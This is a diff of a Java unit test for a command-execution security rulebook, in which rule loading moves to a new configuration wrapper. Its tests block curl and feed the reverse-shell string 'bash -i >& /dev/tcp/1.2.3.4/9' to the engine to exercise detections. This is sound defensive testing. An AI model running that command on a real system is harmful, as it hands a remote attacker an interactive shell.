@@ -10,6 +10,7 @@ import dev.capsem.events.security.Envelope;
 import dev.capsem.events.security.Evaluation;
 import dev.capsem.events.security.SecurityEvent.ProcessExec;
 import dev.capsem.events.vocabulary.EventId;
+import dev.capsem.process.configuration.ConfigurationInForce;
 import dev.capsem.process.rules.Rulebook.Loading;
 import dev.capsem.profiles.EffectiveJson;
 import dev.capsem.profiles.vocabulary.Layer;
@@ -35,15 +36,16 @@ final class RulebookTest {
     private Path directory;
 
     private final Rulebook rules = new Rulebook();
+    private final ConfigurationInForce configuration = new ConfigurationInForce(rules, _ -> Optional.empty());
 
     @Test
     void putsTheProfileInForce() {
         String revision = Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
 
-        Loading loading = rules.load(directory);
+        Loading loading = configuration.load(directory);
 
         assertThat(loading).isEqualTo(new Loading.InForce(revision, 2, List.of()));
-        assertThat(rules.revision()).contains(revision);
+        assertThat(configuration.now().revision()).contains(revision);
         assertThat(rules.problem()).isEmpty();
         assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
         assertThat(decision("make")).isEqualTo(Decision.ALLOW);
@@ -51,7 +53,7 @@ final class RulebookTest {
 
     @Test
     void withoutAProfileEverythingIsBlockedAndItSaysWhy() {
-        Loading loading = rules.load(directory);
+        Loading loading = configuration.load(directory);
 
         assertThat(loading).isInstanceOf(Loading.Refused.class);
         assertThat(rules.problem()).hasValueSatisfying(text -> assertThat(text).contains("effective profile"));
@@ -64,7 +66,7 @@ final class RulebookTest {
         Path file = directory.resolve(EffectiveJson.FILE);
         Files.writeString(file, Files.readString(file).replace("allow", "block"));
 
-        rules.load(directory);
+        configuration.load(directory);
 
         assertThat(rules.problem()).hasValueSatisfying(text -> assertThat(text).contains("revision"));
         assertBlocked(BlockCause.NO_RULES);
@@ -74,7 +76,7 @@ final class RulebookTest {
     void aBadRuleRejectsAllWithItsPlace() {
         Rules.write(directory, Rules.ALLOW_COMMANDS, Rules.command("typo", "process.exec.comand == \"x\"", "block", 1));
 
-        rules.load(directory);
+        configuration.load(directory);
 
         assertThat(rules.problem())
                 .hasValueSatisfying(
@@ -86,21 +88,21 @@ final class RulebookTest {
     void noRuleRewritesACommand() {
         String rewrite = "[security.rules.process.r]\non = \"process.exec\"\nif = \"true\"\ndecision = \"rewrite\"\n";
         Rules.write(directory, rewrite + "strip_request_headers = [\"x\"]\n");
-        rules.load(directory);
+        configuration.load(directory);
         assertThat(rules.problem()).isPresent();
 
         Rules.write(directory, rewrite + "rewrite_target = 'process.exec.command =~ \"a\"'\nrewrite_value = \"b\"\n");
-        rules.load(directory);
+        configuration.load(directory);
         assertThat(rules.problem()).isPresent();
     }
 
     @Test
     void aBadReloadKeepsTheRulesBefore() {
         Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
-        rules.load(directory);
+        configuration.load(directory);
         Rules.write(directory, "[security.rules.process.a]\non = \"process.exec\"\nif = \"tru\"\n");
 
-        Loading loading = rules.load(directory);
+        Loading loading = configuration.load(directory);
 
         assertThat(loading)
                 .isInstanceOfSatisfying(
@@ -117,13 +119,13 @@ final class RulebookTest {
     void theOverlayAddsRulesButNeverOutranksTheCompany() throws IOException {
         Rules.write(directory, Rules.ALLOW_COMMANDS);
         Files.writeString(directory.resolve("overlay.toml"), BLOCK_CURL);
-        rules.load(directory);
+        configuration.load(directory);
         assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
 
         Files.writeString(
                 directory.resolve("overlay.toml"),
                 Rules.command("no_curl", "process.exec.executable == \"curl\"", "allow", -5));
-        assertThat(rules.load(directory))
+        assertThat(configuration.load(directory))
                 .isInstanceOfSatisfying(
                         Loading.Refused.class,
                         refused -> assertThat(refused.problems())
@@ -148,7 +150,7 @@ final class RulebookTest {
                   condition: it
                 """);
 
-        rules.load(directory);
+        configuration.load(directory);
         Evaluation evaluation = rules.engine().evaluate(exec("bash -i >& /dev/tcp/1.2.3.4/9"));
 
         assertThat(evaluation.decision()).isEqualTo(Decision.ALLOW);
@@ -176,7 +178,7 @@ final class RulebookTest {
                 directory.resolve("detections/ids.json"),
                 "{\"my-det-1.yml\":{\"id\":\"my-det-1\",\"pack_id\":\"corp\"}}");
 
-        rules.load(directory);
+        configuration.load(directory);
         Evaluation evaluation = rules.engine().evaluate(exec("bash -i >& /dev/tcp/1.2.3.4/9"));
 
         assertThat(evaluation.findings())
@@ -195,9 +197,9 @@ final class RulebookTest {
         assertBlocked(BlockCause.NO_RULES);
         Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
 
-        rules.load(directory);
+        configuration.load(directory);
         RuleSnapshot prepared = rules.engine().snapshot().orElseThrow();
-        rules.load(directory);
+        configuration.load(directory);
 
         assertThat(rules.engine().snapshot()).containsSame(prepared);
         assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
@@ -206,13 +208,13 @@ final class RulebookTest {
     @Test
     void countsPerRuleSurviveAReloadThatLeavesTheRuleAlone() {
         Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
-        rules.load(directory);
+        configuration.load(directory);
         decision("curl x");
         decision("make");
         decision("make");
 
         Rules.write(directory, BLOCK_CURL, Rules.command("allow_all", "process.exec.command != \"x\"", "allow", 900));
-        rules.load(directory);
+        configuration.load(directory);
 
         assertThat(rules.engine().generation()).isEqualTo(2);
         assertThat(rules.engine().stats())
@@ -223,7 +225,7 @@ final class RulebookTest {
     @Test
     void reloadingWhileDecisionsAreMadeNeverAllowsWhatBothSetsBlock() throws InterruptedException {
         Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
-        rules.load(directory);
+        configuration.load(directory);
         AtomicBoolean isOver = new AtomicBoolean();
         AtomicInteger wrong = new AtomicInteger();
         Thread decisions = Thread.ofPlatform().start(() -> {
@@ -240,7 +242,7 @@ final class RulebookTest {
                 case 1 -> Rules.write(directory, "[security.rules.process.bad]\nif = 3\n");
                 default -> Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
             }
-            rules.load(directory);
+            configuration.load(directory);
         }
         isOver.set(true);
         decisions.join();
